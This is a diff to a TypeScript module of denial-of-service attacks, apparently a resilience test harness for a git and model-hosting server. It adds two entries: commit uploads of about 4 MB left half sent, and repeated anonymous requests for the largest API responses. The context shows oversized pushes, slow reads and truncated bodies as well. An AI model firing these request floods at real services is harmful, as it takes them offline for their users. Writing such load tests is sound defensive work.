@@ -115,6 +115,13 @@ export const attacks: Record<string, Attack> = {
       const headers = { ...type('receive-pack'), 'content-length': '90000000' }
       return send(victim, `/${victim.repo}.git/git-receive-pack`, { method: 'POST', headers, body, isHalf: true })
     }),
+  'commits that are never finished': (victim) =>
+    keep(20, () => {
+      const header = JSON.stringify({ key: 'header', value: { summary: 'never' } })
+      const body = `${header}\n{"key":"file","value":{"path":"never.bin","encoding":"base64","content":"${'A'.repeat(4_000_000)}`
+      const headers = { 'content-type': 'application/x-ndjson' }
+      return send(victim, `/api/models/${victim.repo}/commit/main`, { method: 'POST', headers, body, isHalf: true })
+    }),
   'pushes that hold very much': (victim) => {
     const line = { from: victim.head, to: none, ref: 'refs/heads/x' }
     const body = gzipSync(commands(Array.from({ length: 300_000 }, () => line)))
@@ -133,6 +140,11 @@ export const attacks: Record<string, Attack> = {
     ]),
   'long lists that are taken slowly': (victim) =>
     keep(100, () => send(victim, `/api/models/${victim.repo}/tree/main?recursive=true&limit=1000`, { isSlow: true })),
+  'the longest replies, again and again': (victim) =>
+    keep(30, (index) => {
+      const paths = ['/.well-known/openapi.json', '/api/models?full=true&cardData=true&limit=1000', '/api/quicksearch?q=a']
+      return send(victim, paths[index % paths.length] ?? '', { isAnonymous: true })
+    }),
   'bodies that are half sent': (victim) =>
     keep(300, () => {
       const headers = { ...json, 'content-length': '900000' }
